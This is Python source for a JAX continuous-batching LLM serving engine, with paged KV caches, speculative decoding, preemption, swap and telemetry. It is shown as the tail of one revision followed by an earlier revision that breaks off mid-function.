            slots[rid] = r.slot
            batch.append(rid)
        if not batch:
            return
        if K:
            # drafts reserve blocks, so propose only after every row's COW
            # (and its OutOfBlocks recovery) has run: a reservation taken
            # mid-assembly could turn a neighbour's recoverable preemption
            # into a bow-out the plain path would never take
            for rid in batch:
                r = self.requests[rid]
                dl = self._propose_drafts(r, spec_toks)
                if dl:
                    drafted[rid] = dl
                    dlen_t[r.slot] = dl
                    tab_t[r.slot] = self._tables[r.slot]
        tokens_d = self._sync_dev("tokens", tok_t)
        pos_d = self._sync_dev("positions", pos_t)
        tab_d = self._sync_dev("tables", tab_t)
        act_d = self._sync_dev("active", act_t)
        tmp_d = self._sync_dev("temps", tmp_t)
        seed_d = self._sync_dev("seeds", seed_t)
        tpk_d = self._sync_dev("top_ks", tpk_t)
        tpp_d = self._sync_dev("top_ps", tpp_t)
        do_cow = bool((cow_dst != nb).any())
        do_filter = bool((act_t & ((tpk_t > 0) | (tpp_t < 1.0))).any())
        do_topk = bool(any(self.requests[rid].params.top_logprobs
                           for rid in batch))
        if drafted:
            # q_len=K+1 bucket: row = last committed token + drafts
            # (rows that drafted nothing run with draft_len 0 — their
            # lane is bitwise the plain decode)
            for rid in batch:
                slot = slots[rid]
                spec_toks[slot, 0] = tok_t[slot, 0]
            self.cache, cand, logps, top, n_acc, next_tok, next_pos = \
                self._spec_fn(
                    self.params, self.cache, jnp.asarray(spec_toks),
                    tokens_d, pos_d, tab_d, act_d, jnp.asarray(dlen_t),
                    seed_d, tmp_d, tpk_d, tpp_d, jnp.asarray(cow_src),
                    jnp.asarray(cow_dst), do_cow, do_filter, do_topk)
            self._dev["tokens"], self._dev["positions"] = next_tok, next_pos
            # both mirrors are repaired at harvest: the device advanced
            # them by the data-dependent accepted counts
            self.spec_dispatches += 1
            ndraft = int(dlen_t.sum())
            self.spec_drafted_tokens += ndraft
            for rid, dl in drafted.items():
                self.requests[rid].drafted_tokens += dl
            self._pending = ("spec", cand, logps, top, n_acc, batch,
                             slots, act_t, pos_t, dlen_t)
            return
        self.cache, toks, logps, top, next_tok, next_pos = self._decode_fn(
            self.params, self.cache, tokens_d, pos_d, tab_d, act_d,
            seed_d, tmp_d, tpk_d, tpp_d, jnp.asarray(cow_src),
            jnp.asarray(cow_dst), do_cow, do_filter, do_topk)
        # the device advanced token/position feedback itself; mirror the
        # positions now, the tokens once their values are known (harvest)
        self._dev["tokens"], self._dev["positions"] = next_tok, next_pos
        self._mirror["positions"] = pos_t + act_t
        self._pending = ("plain", toks, logps, top, batch, slots, act_t)

    def _step_legacy(self) -> int:
        """The pre-hot-path eager step loop, kept as the reference
        implementation (equivalence tests, bench baseline) for every
        cache family."""
        self.steps += 1
        produced = 0
        while True:
            r = self._admit()
            if r is None:
                break
            # unchunked: prefill inline before admitting the next request
            # (intra-batch sharing); chunked admissions defer to the loop
            # below
            if self.prefill_chunk is None and r.prefilling:
                produced += self._prefill_chunk(r)
        # chunked prefill work (oldest first), one piece per sequence per
        # step; completion samples the first token
        for rid in list(self.running):
            r = self.requests[rid]
            if r.prefilling and not r.paused:
                produced += self._prefill_chunk(r)
        # batched decode over fully-prefilled running sequences
        decodable = [rid for rid in self.running
                     if self.requests[rid].decodable]
        if not decodable:
            return produced
        self._flush_restores()
        tokens = np.zeros((self.n_slots, 1), np.int32)
        active = np.zeros((self.n_slots,), bool)
        temps = np.zeros((self.n_slots,), np.float32)
        seeds = np.zeros((self.n_slots,), np.uint32)
        top_ks = np.zeros((self.n_slots,), np.int32)
        top_ps = np.ones((self.n_slots,), np.float32)
        slots = {}                       # snapshot: preemption may unbind
        batch = []
        for rid in decodable:
            r = self.requests[rid]
            if r.state != ReqState.RUNNING:
                continue                 # preempted by an earlier COW
            if self.paged:
                # copy-on-write before scattering into a shared tail block
                try:
                    cow = self.bm.cow_if_shared(rid, r.total_len - 1)
                except OutOfBlocks:
                    # same recovery as the append path: steal from younger
                    # sequences, else bow out
                    ok, cow = self._recover_blocks(
                        r, lambda rid=rid, r=r: self.bm.cow_if_shared(
                            rid, r.total_len - 1))
                    if not ok:
                        continue
                if cow is not None:
                    src, dst = cow
                    self.cache = _pool_copy_block(self.cache, src, dst)
                    nb = r.total_len - 1
                    self._tables[r.slot, nb // self.block_size] = dst
            tokens[r.slot, 0] = r.output[-1]
            active[r.slot] = True
            temps[r.slot] = r.params.temperature
            seeds[r.slot] = r.seq_seed
            top_ks[r.slot] = r.params.top_k
            top_ps[r.slot] = r.params.top_p
            self._positions[r.slot] = r.total_len - 1
            slots[rid] = r.slot
            batch.append(rid)
        if not batch:
            return produced
        do_filter = bool((active & ((top_ks > 0) | (top_ps < 1.0))).any())
        do_topk = bool(any(self.requests[rid].params.top_logprobs
                           for rid in batch))
        self.cache, toks, logps, top = self._decode_fn(
            self.params, self.cache, jnp.asarray(tokens),
            jnp.asarray(self._positions), jnp.asarray(self._tables),
            jnp.asarray(active), jnp.asarray(seeds), jnp.asarray(temps),
            jnp.asarray(top_ks), jnp.asarray(top_ps), do_filter, do_topk)
        toks = np.asarray(toks)
        logps = np.asarray(logps)
        tops = None if top is None else (np.asarray(top[0]),
                                         np.asarray(top[1]))
        # two passes, same reason as _harvest: accounting (filled +
        # state_len) must cover the whole batch before any append can
        # preempt-and-checkpoint a later row
        for rid in batch:
            r = self.requests[rid]
            if r.state == ReqState.FINISHED:
                continue                 # aborted mid-loop
            if self.paged:
                # the KV for output[-1] landed in the pool this step
                self.bm.mark_filled(rid, r.total_len)
            r.state_len = r.total_len
        for rid in batch:
            r = self.requests[rid]
            if r.state == ReqState.FINISHED:
                continue
            # use the snapshotted slot: a preemption triggered by an earlier
            # append in this loop unbinds slots, but the token was computed
            self._append(r, int(toks[slots[rid]]),
                         float(logps[slots[rid]]),
                         self._row_top(r, tops, slots[rid]))
            produced += 1
            self.decode_tokens += 1
        return produced

    def generate(self, prompt, max_new_tokens: int = 32,
                 temperature: float = 0.0,
                 cache_salt: str = "") -> list[int]:
        rid = self.submit(prompt, SamplingParams(
            temperature=temperature, max_new_tokens=max_new_tokens),
            cache_salt=cache_salt)
        while self.requests[rid].state != ReqState.FINISHED:
            self.step()
        return self.requests[rid].output

    def has_work(self) -> bool:
        return bool(self.waiting or self.running or self.swapped
                    or self._pending is not None)

    def has_runnable_work(self) -> bool:
        """Like :meth:`has_work`, but False when everything live is
        paused under backpressure — a cooperative step-loop driver can
        stall its pump and let the resume callback restart it instead of
        spinning on no-op steps."""
        if self._pending is not None:
            return True
        return any(not self.requests[rid].paused
                   for q in (self.waiting, self.running, self.swapped)
                   for rid in q)

    # ----- capability surface -----

    def capabilities(self) -> dict:
        """Per-family feature surface derived from the declared cache
        contract: every leaf's kind and swap class, plus which engine
        features run for this model and why the disabled ones are off
        (the launch banner prints this instead of guessing from flags)."""
        def feat(enabled: bool, reason_off: str) -> dict:
            return {"enabled": bool(enabled),
                    "reason": "enabled" if enabled else reason_off}
        if not self.paged:
            pc_why = "no paged pools (attention-free cache)"
        elif self.cfg.has_ssm:
            pc_why = "SSM state cannot restart mid-prompt"
        elif self.cfg.cross_attention:
            pc_why = "encoder KV is not token-addressed"
        elif self.cfg.vision_embed_dim:
            pc_why = "vision inputs bypass token-id prefix keys"
        else:
            pc_why = "disabled by configuration"
        if not self.paged:
            sw_why = "no paged pools to offload"
        elif self._has_state and not self.fast:
            sw_why = ("eager per-slot-state prefill cannot resume "
                      "block-aligned")
        else:
            sw_why = "no host pool configured"
        leaves = [{"path": "/".join(s.path), "kind": s.kind,
                   "dtype": s.dtype, "swap": s.swap,
                   "shards": s.shards, "shard_dim": s.shard_dim,
                   "sharding": "sharded" if s.shards > 1 else "replicated"}
                  for s in self._specs.values()]
        return {
            "paged": self.paged,
            "pool_only": self.pool_only,
            "fast_path": self.fast,
            "tp": self.tp,
            "kv_dtype": self.kv_dtype or "model",
            "leaves": leaves,
            "features": {
                "prefix_caching": feat(self.prefix_caching, pc_why),
                "swap": feat(self.swap_enabled, sw_why),
                "fork": feat(self.paged,
                             "forked sequences need refcounted prompt "
                             "blocks"),
                "spec_decode": feat(
                    self.spec_draft_len > 0,
                    "needs the jitted fast path and a pure paged-GQA "
                    "cache"),
            },
        }

    # ----- hot-path telemetry -----

    @property
    def prefill_bucket_count(self) -> int:
        """Upper bound on distinct prefill executables: one per
        (batch bucket, length bucket) pair."""
        if not self.fast:
            return 0
        return len(self._len_buckets) * len(self._b_buckets)

    def compile_counts(self) -> dict:
        """Distinct XLA executables compiled per hot-path function — the
        recompile-regression guard (tests assert this stays bounded by the
        bucket count while traffic varies)."""
        d = {"decode": int(self._decode_fn._cache_size())}
        if self.fast:
            d["prefill"] = int(self._prefill_fn._cache_size())
        if self.spec_draft_len > 0:
            d["spec_decode"] = int(self._spec_fn._cache_size())
        return d

    def spec_stats(self) -> dict:
        """Self-speculative decoding counters: how many tokens were
        drafted, how many survived exact verification, and the resulting
        acceptance rate (the whole speedup story in one number)."""
        drafted = self.spec_drafted_tokens
        return {
            "enabled": int(self.spec_draft_len > 0),
            "draft_len": self.spec_draft_len,
            "drafted_tokens": drafted,
            "accepted_tokens": self.spec_accepted_tokens,
            "spec_dispatches": self.spec_dispatches,
            "acceptance_rate":
                (self.spec_accepted_tokens / drafted) if drafted else 0.0,
        }

    # ----- prefix-cache telemetry -----

    def prefix_cache_stats(self) -> dict:
        """Counters for the paper's Grafana stack (via core/monitoring.py):
        hit/miss prefill tokens, COW copies, evictions, plus how many
        blocks currently sit in the reusable refcount-0 pool."""
        d = self.bm.stats.as_dict()
        d["cached_blocks"] = self.bm.cached_blocks
        d["registered_keys"] = len(self.bm.cached_block_keys())
        d["prefill_tokens_computed"] = self.prefill_tokens_computed
        d["enabled"] = int(self.prefix_caching)
        return d

    def swap_stats(self) -> dict:
        """Swap-preemption counters + host-pool occupancy (zeros when the
        engine runs without a host pool)."""
        d = self.bm.swap_stats.as_dict()
        d["preemptions"] = self.preemptions_total
        d["swapped_seqs"] = len(self.swapped)
        d["host_blocks"] = self.bm.num_host_blocks
        d["host_blocks_used"] = self.bm.host_blocks_used
        d["enabled"] = int(self.swap_enabled)
        return d

    def kv_block_bytes(self) -> dict:
        """Bytes one logical KV block occupies across every pool leaf,
        plus the per-device resident share under tensor parallelism.
        Swap sizing keeps using the logical figure — a host block always
        holds the full logical block — while sharded pool leaves divide
        their resident footprint by the shard count."""
        logical = per_device = 0

        def walk(d, path, stacked):
            nonlocal logical, per_device
            for k, v in d.items():
                if isinstance(v, dict):
                    walk(v, path + (k,), stacked or k == "blocks")
                elif k.endswith("_pool"):
                    rows = v.shape[1] if stacked else v.shape[0]
                    per_block = int(np.prod(v.shape)) // int(rows)
                    b = per_block * np.dtype(
                        _leaf_dtype(v.dtype, self.dtype)).itemsize
                    logical += b
                    per_device += b // self._specs[path + (k,)].shards
        walk(self._defs, (), False)
        return {"logical": logical, "per_device": per_device,
                "tp": self.tp}

    def cached_block_keys(self) -> list[str]:
        """Serializable keys of every prefix-cache block resident on this
        instance — what a service job publishes to the scheduler's
        cross-instance prefix index on each heartbeat."""
        return self.bm.cached_block_keys()

    def publish_metrics(self, metrics) -> None:
        """Push engine + prefix-cache stats into a core.monitoring.Metrics
        registry (Prometheus exposition happens there)."""
        s = self.prefix_cache_stats()
        sw = self.swap_stats()
        metrics.sync_totals(
            counters={
                "engine_prefix_cache_hit_tokens_total": s["hit_tokens"],
                "engine_prefix_cache_miss_tokens_total": s["miss_tokens"],
                "engine_prefix_cache_cow_copies_total": s["cow_copies"],
                "engine_prefix_cache_evictions_total": s["evictions"],
                "engine_prefix_cache_collision_rejects_total":
                    s["collision_rejects"],
                "engine_prefill_tokens_computed_total":
                    s["prefill_tokens_computed"],
                "engine_decode_tokens_total": self.decode_tokens,
                "engine_forks_total": s["forks"],
                "engine_preemptions_total": sw["preemptions"],
                "engine_swap_out_blocks_total": sw["swap_out_blocks"],
                "engine_swap_in_blocks_total": sw["swap_in_blocks"],
                "engine_swap_in_scatters_total": self.swap_scatter_calls,
                "engine_swap_fallbacks_total": sw["fallbacks"],
                "engine_spec_drafted_tokens_total":
                    self.spec_drafted_tokens,
                "engine_spec_accepted_tokens_total":
                    self.spec_accepted_tokens,
                "engine_spec_dispatches_total": self.spec_dispatches,
            },
            gauges={
                "engine_prefix_cache_blocks": s["cached_blocks"],
                "engine_prefix_cache_registered_keys": s["registered_keys"],
                "engine_free_blocks": self.bm.free_blocks,
                "engine_running_seqs": len(self.running),
                "engine_waiting_seqs": len(self.waiting),
                "engine_swapped_seqs": sw["swapped_seqs"],
                "engine_swap_host_blocks": sw["host_blocks"],
                "engine_swap_host_blocks_used": sw["host_blocks_used"],
            })


# ---------------------------------------------------------------------------
# cache tree helpers: slot-dim is axis 0 for prefix leaves, axis 1 for
# layer-stacked ('blocks') leaves; '*_pool' leaves are global (paged).
# ---------------------------------------------------------------------------

def _cache_slice_slot(cache, slot):
    def walk(d, stacked):
        out = {}
        for k, v in d.items():
            if isinstance(v, dict):
                out[k] = walk(v, stacked or k == "blocks")
            elif k.endswith("_pool"):
                out[k] = v
            else:
                ax = 1 if stacked else 0
                out[k] = jax.lax.dynamic_slice_in_dim(v, slot, 1, axis=ax)
        return out
    return walk(cache, False)


def _pool_copy_block(cache, src, dst):
    """Copy one physical block (all layers, K and V) inside the global
    pools — the data half of copy-on-write (eager reference path)."""
    def walk(d, stacked):
        out = {}
        for k, v in d.items():
            if isinstance(v, dict):
                out[k] = walk(v, stacked or k == "blocks")
            elif k.endswith("_pool"):
                ax = 1 if stacked else 0
                blk = jax.lax.dynamic_slice_in_dim(v, src, 1, axis=ax)
                out[k] = jax.lax.dynamic_update_slice_in_dim(
                    v, blk, dst, axis=ax)
            else:
                out[k] = v
        return out
    return walk(cache, False)


def _pool_copy_rows(cache, src, dst):
    """Vectorized COW inside the jitted step: copy pool block ``src[i]`` →
    ``dst[i]`` for every slot i.  Slots with nothing to copy pass the
    scratch index for both, making their copy a same-value no-op (duplicate
    scatter indices all carry identical data, so ordering is irrelevant)."""
    def walk(d, stacked):
        out = {}
        for k, v in d.items():
            if isinstance(v, dict):
                out[k] = walk(v, stacked or k == "blocks")
            elif k.endswith("_pool"):
                if stacked:
                    out[k] = v.at[:, dst].set(v[:, src])
                else:
                    out[k] = v.at[dst].set(v[src])
            else:
                out[k] = v
        return out
    return walk(cache, False)


def _pool_block_bytes(defs, dtype) -> int:
    """Bytes one physical KV block occupies across every pool leaf (all
    layers, K and V) — the unit ``--swap-space`` is divided by."""
    total = 0

    def walk(d, stacked):
        nonlocal total
        for k, v in d.items():
            if isinstance(v, dict):
                walk(v, stacked or k == "blocks")
            elif k.endswith("_pool"):
                rows = v.shape[1] if stacked else v.shape[0]
                per_block = int(np.prod(v.shape)) // int(rows)
                eff = _leaf_dtype(v.dtype, dtype)
                total += per_block * np.dtype(eff).itemsize
    walk(defs, False)
    return total


def _mk_host_pool(cache, num_host_blocks):
    """Host-side (numpy) mirror of the pool leaves, ``num_host_blocks``
    rows deep — the swap-out destination / swap-in source."""
    def walk(d, stacked):
        out = {}
        for k, v in d.items():
            if isinstance(v, dict):
                sub = walk(v, stacked or k == "blocks")
                if sub:
                    out[k] = sub
            elif k.endswith("_pool"):
                shape = ((v.shape[0], num_host_blocks) + tuple(v.shape[2:])
                         if stacked else
                         (num_host_blocks,) + tuple(v.shape[1:]))
                out[k] = np.zeros(shape, np.dtype(v.dtype))
        return out
    return walk(cache, False)


def _pool_gather_rows(cache, idx):
    """Pool rows ``idx`` (all layers, K and V) as a pool-leaf-only tree —
    the device half of swap-out.  Padded entries pass the scratch index;
    their rows are garbage the host write simply doesn't copy."""
    def walk(d, stacked):
        out = {}
        for k, v in d.items():
            if isinstance(v, dict):
                sub = walk(v, stacked or k == "blocks")
                if sub:
                    out[k] = sub
            elif k.endswith("_pool"):
                out[k] = v[:, idx] if stacked else v[idx]
        return out
    return walk(cache, False)


def _pool_scatter_rows(cache, rows, idx):
    """Write ``rows`` into pool rows ``idx`` — the device half of swap-in.
    Padded entries target the scratch row (whose content is never read),
    so one executable per block-count bucket serves every restore."""
    def walk(d, r, stacked):
        out = {}
        for k, v in d.items():
            if isinstance(v, dict):
                out[k] = walk(v, r.get(k, {}) if isinstance(r, dict) else {},
                              stacked or k == "blocks")
            elif k.endswith("_pool") and k in r:
                if stacked:
                    out[k] = v.at[:, idx].set(r[k].astype(v.dtype))
                else:
                    out[k] = v.at[idx].set(r[k].astype(v.dtype))
            else:
                out[k] = v
        return out
    return walk(cache, rows, False)


class _TpScoped:
    """Run a jitted engine step inside the engine's tensor-mesh scope so
    the ``tp_replicate`` gather constraints in the layer bodies bind at
    trace time; forwards the compile-cache introspection that
    ``compile_counts()`` (and the bucket-grid tests) rely on."""

    def __init__(self, fn, mesh):
        self._fn, self._mesh = fn, mesh

    def __call__(self, *args, **kwargs):
        with tp_mesh_scope(self._mesh):
            return self._fn(*args, **kwargs)

    def _cache_size(self):
        return self._fn._cache_size()


def _tp_cache_shardings(defs, mesh):
    """NamedSharding tree for the resident cache: paged pools shard by
    TP_CACHE_RULES (kv_heads over ``tensor``, replicating when the head
    count doesn't divide — the GQA head-replication rule); per-slot
    state, cross K/V, scale sidecars, and MLA latent pools replicate."""
    def walk(d):
        out = {}
        for k, v in d.items():
            if isinstance(v, dict):
                out[k] = walk(v)
            elif k.endswith("_pool"):
                out[k] = NamedSharding(
                    mesh, spec_for(v.dims, v.shape, mesh, TP_CACHE_RULES))
            else:
                out[k] = NamedSharding(mesh, PartitionSpec())
        return out
    return walk(defs)


def _annotate_tp_specs(specs, defs, mesh):
    """Fill per-leaf TP geometry (shard count + sharded logical dim) into
    the cache contract, mirroring ``_tp_cache_shardings`` exactly."""
    flat = {}

    def walk(d, path):
        for k, v in d.items():
            if isinstance(v, dict):
                walk(v, path + (k,))
            else:
                flat[path + (k,)] = v
    walk(defs, ())
    out = {}
    for p, s in specs.items():
        d = flat[p]
        shards, dim = 1, None
        if s.name.endswith("_pool"):
            spec = spec_for(d.dims, d.shape, mesh, TP_CACHE_RULES)
            for dim_name, ax in zip(d.dims, tuple(spec)):
                if ax is None:
                    continue
                axes = ax if isinstance(ax, tuple) else (ax,)
                shards *= int(np.prod([mesh.shape[a] for a in axes]))
                dim = dim_name
        out[p] = dataclasses.replace(s, shards=shards, shard_dim=dim)
    return out


def _cache_write_slot(cache, new, slot):
    def walk(d, n, stacked):
        out = {}
        for k, v in d.items():
            if isinstance(v, dict):
                out[k] = walk(v, n[k], stacked or k == "blocks")
            elif k.endswith("_pool"):
                out[k] = n[k]
            else:
                ax = 1 if stacked else 0
                out[k] = jax.lax.dynamic_update_slice_in_dim(
                    v, n[k].astype(v.dtype), slot, axis=ax)
        return out
    return walk(cache, new, False)
