"""Continuous-batching LLM engine (the vLLM-analogue layer, paper §5.7).

Request lifecycle: submit → WAITING → (admitted, blocks allocated, prefill)
→ RUNNING (decoded one token per engine step alongside every other running
sequence) → FINISHED (blocks freed).  When a decode step cannot grab a new
block, the youngest running sequence is preempted back to WAITING with its
blocks freed (vLLM's recompute-preemption policy).

Physical KV storage is paged for standard-attention layers (per-layer block
pools + block tables; see ``kv_cache.py``); SSM/conv states and MLA latent /
cross-attention caches are per-slot tensors.  Engine steps are jitted with
static shapes (slot count, pool size), so continuous batching causes no
recompilation.
"""
from __future__ import annotations

import itertools
import time
from dataclasses import dataclass, field
from enum import Enum
from functools import partial
from typing import Optional

import jax
import jax.numpy as jnp
import numpy as np

from repro.models import forward, init_cache, logits_last
from repro.models.config import ModelConfig
from repro.models.model import cache_defs
from repro.models.params import is_def, tree_map_defs
from repro.serving.kv_cache import BlockManager, OutOfBlocks
from repro.serving.sampling import SamplingParams, sample


class ReqState(str, Enum):
    WAITING = "waiting"
    RUNNING = "running"
    FINISHED = "finished"


@dataclass
class EngineRequest:
    req_id: int
    prompt: np.ndarray                   # [S] int32
    params: SamplingParams
    state: ReqState = ReqState.WAITING
    slot: int = -1
    output: list[int] = field(default_factory=list)
    preemptions: int = 0
    t_submit: float = 0.0
    t_first_token: Optional[float] = None
    t_finish: Optional[float] = None

    @property
    def total_len(self) -> int:
        return len(self.prompt) + len(self.output)


def _paged_cache_defs(cfg: ModelConfig, n_slots: int, max_len: int,
                      num_blocks: int, block_size: int):
    """Cache defs where GQA attention layers get global block pools."""
    import dataclasses as dc
    defs = cache_defs(cfg, n_slots, max_len)

    def fix(d):
        if not isinstance(d, dict):
            return d
        out = {}
        for k, v in d.items():
            if k in ("k", "v") and is_def(v):
                # [B, S, KV, hd] -> pool [NB+1, bs, KV, hd] (+1 scratch)
                pool_shape = (v.shape[0], num_blocks + 1, block_size,
                              *v.shape[3:]) if v.dims[0] == "layers" else (
                              num_blocks + 1, block_size, *v.shape[2:])
                dims = (("layers", "kv_blocks", "kv_block_size")
                        + v.dims[3:]) if v.dims[0] == "layers" else (
                        ("kv_blocks", "kv_block_size") + v.dims[2:])
                out[k + "_pool"] = dc.replace(v, shape=pool_shape, dims=dims)
            elif is_def(v):
                out[k] = v
            else:
                out[k] = fix(v)
        return out
    return fix(defs)


class Engine:
    def __init__(self, cfg: ModelConfig, params, *,
                 max_num_seqs: int = 4,
                 max_model_len: int = 512,
                 block_size: int = 16,
                 num_blocks: Optional[int] = None,
                 dtype=jnp.float32,
                 seed: int = 0,
                 clock=None):
        self.cfg = cfg
        self.params = params
        self.n_slots = max_num_seqs
        self.max_model_len = max_model_len
        self.paged = cfg.mla is None and not cfg.is_attention_free
        self.block_size = block_size
        if num_blocks is None:
            num_blocks = max_num_seqs * (max_model_len // block_size)
        self.bm = BlockManager(num_blocks, block_size)
        self.max_blocks_per_seq = max_model_len // block_size
        self.dtype = dtype
        self.clock = clock
        self._key = jax.random.key(seed)
        self._ids = itertools.count(1)
        self.requests: dict[int, EngineRequest] = {}
        self.waiting: list[int] = []
        self.running: list[int] = []     # req ids, oldest first
        self._slots: list[Optional[int]] = [None] * max_num_seqs
        self.steps = 0
        self.decode_tokens = 0

        if self.paged:
            defs = _paged_cache_defs(cfg, max_num_seqs, max_model_len,
                                     num_blocks, block_size)
        else:
            defs = cache_defs(cfg, max_num_seqs, max_model_len)
        self.cache = tree_map_defs(
            lambda d: jnp.zeros(
                d.shape, jnp.float32 if d.dtype == "state" else dtype), defs)
        # per-slot block tables; scratch block = num_blocks
        self._tables = np.full((max_num_seqs, self.max_blocks_per_seq),
                               num_blocks, np.int32)
        self._positions = np.zeros((max_num_seqs,), np.int32)
        self._decode_fn = jax.jit(partial(self._decode_impl, cfg))

    # ------------------------------------------------------------------
    def _now(self) -> float:
        return self.clock.now() if self.clock else time.monotonic()

    def submit(self, prompt, params: SamplingParams | None = None) -> int:
        params = params or SamplingParams()
        prompt = np.asarray(prompt, np.int32)
        assert prompt.ndim == 1 and len(prompt) > 0
        assert len(prompt) + params.max_new_tokens <= self.max_model_len, \
            "request exceeds max_model_len"
        r = EngineRequest(next(self._ids), prompt, params,
                          t_submit=self._now())
        self.requests[r.req_id] = r
        self.waiting.append(r.req_id)
        return r.req_id

    # ----- scheduling -----

    def _free_slot(self) -> Optional[int]:
        for i, s in enumerate(self._slots):
            if s is None:
                return i
        return None

    def _admit(self) -> Optional[EngineRequest]:
        if not self.waiting:
            return None
        slot = self._free_slot()
        if slot is None:
            return None
        rid = self.waiting[0]
        r = self.requests[rid]
        # re-prefill includes previously generated tokens (recompute policy)
        need = r.total_len
        if self.paged and not self.bm.can_allocate(
                -(-need // self.block_size) * self.block_size):
            return None
        self.waiting.pop(0)
        r.state = ReqState.RUNNING
        r.slot = slot
        self._slots[slot] = rid
        self.running.append(rid)
        if self.paged:
            blocks = self.bm.allocate(rid, need)
            self._tables[slot, :] = self.bm.num_blocks   # scratch
            self._tables[slot, :len(blocks)] = blocks
        self._positions[slot] = need - 1
        self._prefill(r)
        return r

    def _preempt_youngest(self) -> None:
        rid = self.running[-1]
        r = self.requests[rid]
        self._evict(r)
        r.state = ReqState.WAITING
        r.preemptions += 1
        self.waiting.insert(0, rid)

    def _evict(self, r: EngineRequest) -> None:
        self.running.remove(r.req_id)
        self._slots[r.slot] = None
        self._tables[r.slot, :] = self.bm.num_blocks
        if self.paged:
            self.bm.free(r.req_id)
        r.slot = -1

    # ----- model calls -----

    def _slot_extras(self, tokens_shape) -> dict:
        ex = {}
        if self.cfg.vision_embed_dim:
            B, S = tokens_shape
            ex["patch_embeds"] = jnp.zeros((B, S, self.cfg.vision_embed_dim),
                                           self.dtype)
            ex["vision_mask"] = jnp.zeros((B, S), bool)
        if self.cfg.cross_attention:
            B = tokens_shape[0]
            ex["encoder_frames"] = jnp.zeros(
                (B, self.cfg.num_encoder_frames, self.cfg.d_model),
                self.dtype)
        return ex

    def _prefill(self, r: EngineRequest) -> None:
        """Prefill one sequence (B=1 slice written into the global cache)."""
        toks = np.concatenate([r.prompt, np.asarray(r.output, np.int32)])
        true_len = len(toks)
        pad = -(-true_len // self.block_size) * self.block_size \
            if self.paged else true_len
        padded = np.zeros((pad,), np.int32)
        padded[:true_len] = toks
        tokens = jnp.asarray(padded)[None]
        positions = jnp.arange(pad)[None]
        extras = self._slot_extras((1, pad))
        if self.paged:
            extras["block_table"] = jnp.asarray(self._tables[r.slot])[None]
            extras["kv_lengths"] = jnp.asarray([true_len])

        slot_cache = self._slice_cache(r.slot)
        hidden, new_cache, _ = forward(
            self.cfg, self.params, tokens, positions=positions,
            mode="prefill", cache=slot_cache, extras=extras)
        self._write_cache(r.slot, new_cache)
        logits = logits_last(self.cfg, self.params,
                             hidden[:, true_len - 1:true_len])
        tok = self._sample_one(logits, r.params)
        self._append(r, tok)

    def _slice_cache(self, slot):
        """Per-slot [1, ...] view of the cache; block pools stay global.
        Leaves under 'blocks' are layer-stacked (slot dim is axis 1)."""
        return _cache_slice_slot(self.cache, slot)

    def _write_cache(self, slot, new_cache):
        self.cache = _cache_write_slot(self.cache, new_cache, slot)

    def _decode_impl(self, cfg, params, cache, tokens, positions, tables,
                     active, key, temps):
        extras = self._slot_extras(tokens.shape)
        if self.paged:
            # inactive slots write to the scratch block
            extras["block_table"] = jnp.where(
                active[:, None], tables, self.bm.num_blocks)
        hidden, new_cache, _ = forward(cfg, params, tokens,
                                       positions=positions, mode="decode",
                                       cache=cache, extras=extras)
        logits = logits_last(cfg, params, hidden)
        greedy = jnp.argmax(logits, axis=-1)
        scaled = sample(logits / jnp.maximum(temps[:, None], 1e-6), key,
                        temperature=1.0)
        toks = jnp.where(temps > 0, scaled, greedy)
        return new_cache, toks

    def _sample_one(self, logits, sp: SamplingParams) -> int:
        self._key, k = jax.random.split(self._key)
        t = sample(logits, k, sp.temperature, sp.top_k, sp.top_p)
        return int(t[0])

    def _append(self, r: EngineRequest, token: int) -> None:
        r.output.append(int(token))
        if r.t_first_token is None:
            r.t_first_token = self._now()
        sp = r.params
        if (len(r.output) >= sp.max_new_tokens
                or token == sp.stop_token):
            self._finish(r)
        elif self.paged and r.state == ReqState.RUNNING:
            try:
                newblk = self.bm.append_token(r.req_id)
                if newblk is not None:
                    nb = len(self.bm.table(r.req_id))
                    self._tables[r.slot, nb - 1] = newblk
            except OutOfBlocks:
                # grab back a block by preempting the youngest other seq
                if self.running[-1] != r.req_id:
                    self._preempt_youngest()
                    newblk = self.bm.append_token(r.req_id)
                    nb = len(self.bm.table(r.req_id))
                    self._tables[r.slot, nb - 1] = newblk
                else:
                    self._finish(r)   # nothing to steal from

    def _finish(self, r: EngineRequest) -> None:
        if r.state == ReqState.RUNNING:
            self._evict(r)
        r.state = ReqState.FINISHED
        r.t_finish = self._now()

    # ----- the continuous-batching loop -----

    def step(self) -> int:
        """One engine iteration; returns number of tokens produced."""
        self.steps += 1
        produced = 0
        # admit as many as fit (each admission runs its prefill)
        while True:
            r = self._admit()
            if r is None:
                break
            produced += 1
        if not self.running:
            return produced
        # batched decode over all active slots
        tokens = np.zeros((self.n_slots, 1), np.int32)
        active = np.zeros((self.n_slots,), bool)
        temps = np.zeros((self.n_slots,), np.float32)
        for rid in self.running:
            r = self.requests[rid]
            tokens[r.slot, 0] = r.output[-1]
            active[r.slot] = True
            temps[r.slot] = r.params.temperature
            self._positions[r.slot] = r.total_len - 1
        self._key, k = jax.random.split(self._key)
        self.cache, toks = self._decode_fn(
            self.params, self.cache, jnp.asarray(tokens),
            jnp.asarray(self._positions), jnp.asarray(self._tables),
            jnp.asarray(active), k, jnp.asarray(temps))
        toks = np.asarray(toks)
        for rid in list(self.running):
            r = self.requests[rid]
            self._append(r, int(toks[r.slot]))
            produced += 1
            self.decode_tokens += 1
        return produced

    def generate(self, prompt, max_new_tokens: int = 32,
                 temperature: float = 0.0) -> list[int]:
        rid = self.submit(prompt, SamplingParams(
            temperature=temperature, max_new_tokens=max_new_tokens))
        while self.requests[rid].state != ReqState.FINISHED:
            self.step()
        return self.requests[rid].output

    def has_work(self) -> bool:
        return bool(self.waiting or self.running)


# ---------------------------------------------------------------------------
# cache tree helpers: slot-dim is axis 0 for prefix leaves, axis 1 for
# layer-stacked ('blocks') leaves; '*_pool' leaves are global (paged).
# ---------------------------------------------------------------------------

def _cache_slice_slot(cache, slot):
    def walk(d, stacked):
        out = {}
        for k, v in d.items():
            if isinstance(v, dict):
                out[k] = walk(v, stacked or k == "blocks")
            elif k.endswith("_pool"):
                out[k] = v
            else:
                ax = 1 if stacked else 0
                out[k] = jax.lax.dynamic_slice_in_dim(v, slot, 1, axis=ax)
        return out
    return walk(cache, False)


def _cache_write_slot(cache, new, slot):
    def walk(d, n, stacked):
        out = {}
        for k, v in d.items():
            if isinstance(v, dict):
                out[k] = walk(v, n[k], stacked or k == "blocks")
            elif k.endswith("_pool"):
                out[k] = n[k]
            else:
                ax = 1 if stacked else 0
